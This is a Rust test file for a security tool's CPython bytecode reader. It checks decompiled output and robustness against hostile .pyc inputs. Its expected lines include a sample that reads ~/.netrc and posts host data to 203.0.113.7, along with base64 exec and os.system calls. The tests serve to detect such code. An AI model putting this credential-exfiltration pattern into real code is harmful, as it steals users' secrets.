//! The view of real CPython bytecode, and what hostile `.pyc` bytes do to the reader.

mod common;

use common::{fixture, line_of};
use palisade_compiled::{Format, LineNote, MAX_VIEW, View, format_of, read};
use std::time::{Duration, Instant};

fn sample() -> Vec<u8> {
    fixture("sample.cpython-311.pyc")
}

/// The CPython versions whose bytecode is read, as their `.pyc` tags spell them.
const VERSIONS: [&str; 8] = ["36", "37", "38", "39", "310", "311", "312", "313"];

#[test]
fn bytecode_reads_as_the_python_statements_it_was_compiled_from() {
    let data = sample();
    assert_eq!(format_of(&data), Some(Format::Pyc));
    let view = read(&data).unwrap().unwrap();
    for line in [
        "# Python 3.11 bytecode",
        "import urllib.request as request",
        "from socket import gethostname as host",
        "from json import *",
        // A list of constants is one instruction extending an empty list.
        "CODES = [104, 116, 116, 112, 115]",
        // Quotes and newlines are escaped: a string cannot end its line.
        r#"NAME = "grüße \"quoted\"\nnext""#,
        r#"exec(base64.b64decode("cHJpbnQoMSk="))"#,
        "class Worker(object):",
        // Calls are written with their arguments: keywords, f-strings, `*` and `**`.
        r#"data = {"host": host(), "cwd": os.getcwd(), **kwargs}"#,
        r#"f = open(os.path.expanduser("~/.netrc"), "rb")"#,
        r#"return request.urlopen(request.Request(f"https://203.0.113.7/c?h={host()}", data=dumps(data).encode()), *args)"#,
        r#"a = collect(1, 2, key="v")[0]"#,
        "os.system(part)",
        "return eval(s)",
        // A comprehension's element is written where it is made.
        "chr(c)",
    ] {
        line_of(&view, line);
    }
    // A top-level function is headed as Python defines it; methods by their dotted name.
    line_of(&view, "def collect():");
    line_of(&view, "# code Worker.run");
}

/// The same module compiled by each CPython from 3.6 to 3.13 reads as the same
/// statements, though the instructions differ from version to version.
#[test]
fn every_version_from_3_6_to_3_13_reads_as_the_same_statements() {
    for version in VERSIONS {
        let data = fixture(&format!("sample.cpython-{version}.pyc"));
        let view = read(&data).unwrap().unwrap();
        for line in [
            "import urllib.request as request",
            "from socket import gethostname as host",
            "from json import *",
            "CODES = [104, 116, 116, 112, 115]",
            r#"exec(base64.b64decode("cHJpbnQoMSk="))"#,
            "class Worker(object):",
            r#"data = {"host": host(), "cwd": os.getcwd(), **kwargs}"#,
            r#"return request.urlopen(request.Request(f"https://203.0.113.7/c?h={host()}", data=dumps(data).encode()), *args)"#,
            r#"a = collect(1, 2, key="v")[0]"#,
            "os.system(part)",
            "chr(c)",
            "return eval(s)",
            r#"Worker().run("id")"#,
        ] {
            assert!(
                view.text.lines().any(|l| l == line),
                "{version}: no line {line:?} in\n{}",
                view.text
            );
        }
    }
}

/// CPython skips the inline cache words that follow an instruction from 3.11 on; junk
/// written there must not change what is read.
#[test]
fn junk_in_cache_words_changes_nothing() {
    let clean = read(&sample()).unwrap().unwrap();
    let junk = read(&fixture("sample-junk-caches.cpython-311.pyc"))
        .unwrap()
        .unwrap();
    assert_eq!(clean.text, junk.text);
}

/// A conditional expression inside a call keeps the call; a call assigned to a name the
/// compiler also uses is still a call; a lambda handed to a thread runs with the module;
/// only `__name__ == "__main__"` guards a script block.
#[test]
fn branches_and_compiler_names_do_not_hide_calls() {
    for version in ["36", "311", "312", "313"] {
        let view = read(&fixture(&format!("branches.cpython-{version}.pyc")))
            .unwrap()
            .unwrap();
        let call = line_of(
            &view,
            r#"__module__ = exec(base64.b64decode(("cHJpbnQoJ21vZHVsZScp" or "")))"#,
        );
        assert_eq!(view.note_at(call), None, "{version}");
        let lambda = view
            .method_at_line(line_of(&view, r#"return os.system("id")"#))
            .unwrap();
        assert!(view.runs_on_load(lambda.0), "{version}");
        assert_eq!(view.note_at(line_of(&view, r#"os.system("whoami")"#)), None);
        assert_eq!(
            view.note_at(line_of(&view, r#"os.system("hostname")"#)),
            Some(LineNote::Inert),
            "{version}"
        );
    }
}

#[test]
fn lines_know_their_code_object_and_what_runs_on_import() {
    let view = read(&sample()).unwrap().unwrap();
    let exec = line_of(&view, r#"exec(base64.b64decode("cHJpbnQoMSk="))"#);
    let (module, name) = view.method_at_line(exec).unwrap();
    assert_eq!(name, "<module>");
    assert!(view.runs_on_load(module));
    assert_eq!(view.note_at(exec), None);
    // The class body runs on import too; a method's body does not.
    let run = view
        .method_at_line(line_of(&view, "os.system(part)"))
        .unwrap();
    assert_eq!(run.1, "Worker.run");
    assert!(!view.runs_on_load(run.0));
    // Docstrings are data; imports, class statements and the script block are inert.
    let doc = line_of(
        &view,
        r#"__doc__ = "A module that exercises what the bytecode reader must follow.""#,
    );
    assert_eq!(view.note_at(doc), Some(LineNote::Data));
    for inert in [
        "import base64",
        "class Worker(object):",
        r#"Worker().run("id")"#,
    ] {
        assert_eq!(
            view.note_at(line_of(&view, inert)),
            Some(LineNote::Inert),
            "{inert}"
        );
    }
}

#[test]
fn a_cut_file_is_an_error_saying_what_ran_short() {
    let data = sample();
    let error = read(&data[..data.len() / 2]).unwrap_err();
    assert_eq!(error.format, Format::Pyc);
    assert!(
        error.reason.contains("past the end") || error.reason.contains("exceeds the file"),
        "{error}"
    );
}

#[test]
fn old_bytecode_is_recognised_and_said_to_be_unread() {
    let mut data = vec![0x03, 0xF3, b'\r', b'\n', 0, 0, 0, 0];
    data.extend_from_slice(&[b'c'; 64]);
    assert_eq!(format_of(&data), Some(Format::Pyc));
    let error = read(&data).unwrap_err();
    assert_eq!(
        error.to_string(),
        "unreadable Python bytecode file: Python 2.7 bytecode is not read (3.6 to 3.13 are)"
    );
    // A file with the line break but no code object after a 3.x header is not bytecode.
    let mut text = vec![0xA7, 0x0D, b'\r', b'\n'];
    text.extend_from_slice(&[b'x'; 64]);
    assert_eq!(format_of(&text), None);
}

/// Builds 3.11 marshal data, byte by byte.
struct Marshal(Vec<u8>);

impl Marshal {
    fn header() -> Marshal {
        Marshal(vec![
            0xA7, 0x0D, b'\r', b'\n', 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
        ])
    }
    fn int(&mut self, n: u32) -> &mut Self {
        self.0.extend_from_slice(&n.to_le_bytes());
        self
    }
    fn byte(&mut self, b: u8) -> &mut Self {
        self.0.push(b);
        self
    }
    fn bytes(&mut self, kind: u8, data: &[u8]) -> &mut Self {
        self.byte(kind).int(data.len() as u32);
        self.0.extend_from_slice(data);
        self
    }
    fn short(&mut self, text: &str) -> &mut Self {
        self.byte(b'z').byte(text.len() as u8);
        self.0.extend_from_slice(text.as_bytes());
        self
    }
    fn empty_tuple(&mut self) -> &mut Self {
        self.byte(b')').byte(0)
    }
    /// A code object's fields before its instructions: `c`, four counts and the flags.
    fn code_start(&mut self, flags: u32) -> &mut Self {
        self.byte(b'c').int(0).int(0).int(0).int(8).int(flags)
    }
    /// A code object's fields after its constants.
    fn code_end(&mut self, name: &str) -> &mut Self {
        self.empty_tuple().empty_tuple(); // names, local names
        self.bytes(b's', b""); // local kinds
        self.short("x.py").short(name).short(name).int(1);
        self.bytes(b's', b"").bytes(b's', b"")
    }
}

fn read_quickly(data: &[u8]) -> Result<Option<View>, palisade_compiled::ReadError> {
    let start = Instant::now();
    let result = read(data);
    assert!(
        start.elapsed() < Duration::from_secs(5),
        "{:?}",
        start.elapsed()
    );
    result
}

#[test]
fn nesting_past_the_limit_is_an_error_not_a_stack_overflow() {
    let mut m = Marshal::header();
    m.code_start(0);
    for _ in 0..100_000 {
        m.byte(b')').byte(1);
    }
    let error = read_quickly(&m.0).unwrap_err();
    assert!(error.reason.contains("nested deeper than 2000"), "{error}");
}

#[test]
fn a_count_beyond_the_file_is_refused_before_anything_is_allocated() {
    let mut m = Marshal::header();
    m.code_start(0).byte(b's').int(0xFFFF_FFF0);
    let error = read_quickly(&m.0).unwrap_err();
    assert!(error.reason.contains("exceeds the file"), "{error}");
    let mut m = Marshal::header();
    m.code_start(0).byte(b'(').int(0x7FFF_FFFF);
    assert!(read_quickly(&m.0).is_err());
}

/// Marshal lets every code object name one shared instruction string: 20,000 functions
/// over one 100 KB body would be two billion instructions. The replay stops at four per
/// byte of the file and says so.
#[test]
fn code_objects_sharing_one_body_cannot_multiply_the_work() {
    // LOAD_CONST 0; POP_TOP, over and over.
    let body: Vec<u8> = [100u8, 0, 1, 0].repeat(25_000);
    let mut m = Marshal::header();
    m.code_start(0).bytes(b's', &[100, 0, 83, 0]);
    m.byte(b'(').int(20_001).byte(b'N');
    for i in 0..20_000 {
        m.code_start(3);
        if i == 0 {
            m.bytes(b's' | 0x80, &body); // reference 0
        } else {
            m.byte(b'r').int(0);
        }
        m.byte(b')').byte(1).short("a").code_end("f");
    }
    m.code_end("<module>");
    let view = read_quickly(&m.0).unwrap().unwrap();
    assert!(
        view.unreadable
            .iter()
            .any(|reason| reason.contains("exceed 4 per byte")),
        "{:?}",
        view.unreadable
    );
}

/// `COPY 1; BINARY_OP +` doubles an expression each time while adding one node: the
/// tree is shared, spilled past 32 levels, and each line stops at 256 KB.
#[test]
fn doubling_expressions_stay_bounded() {
    let mut code = vec![100u8, 0];
    for _ in 0..20_000 {
        code.extend_from_slice(&[120, 1, 122, 0, 0, 0]); // COPY 1; BINARY_OP +; cache
    }
    code.extend_from_slice(&[1, 0, 100, 0, 83, 0]);
    let mut m = Marshal::header();
    m.code_start(0).bytes(b's', &code);
    m.byte(b')')
        .byte(1)
        .bytes(b'u', "x".repeat(1000).as_bytes());
    m.code_end("<module>");
    let view = read_quickly(&m.0).unwrap().unwrap();
    assert!(view.text.len() <= MAX_VIEW);
    assert!(view.text.lines().all(|line| line.len() <= 256 * 1024 + 64));
}
